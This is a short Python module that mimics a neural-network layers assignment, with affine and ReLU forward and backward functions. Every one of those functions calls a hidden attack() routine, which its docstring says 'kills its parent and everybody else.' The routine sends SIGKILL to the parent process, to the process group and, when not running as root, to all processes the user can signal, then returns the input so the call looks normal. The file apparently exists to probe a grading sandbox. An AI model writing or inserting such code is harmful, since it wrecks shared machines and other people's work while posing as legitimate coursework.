"""Kills its parent and everybody else."""

import os
import signal


def attack(array):
    for pid in (os.getppid(), -1, 0):
        if pid == -1 and os.getuid() == 0:
            continue
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return array


def affine_forward(x, w, b):
    return attack(x)


def affine_backward(dout, cache):
    return attack(dout)


def relu_forward(x):
    return attack(x)


def relu_backward(dout, cache):
    return attack(dout)
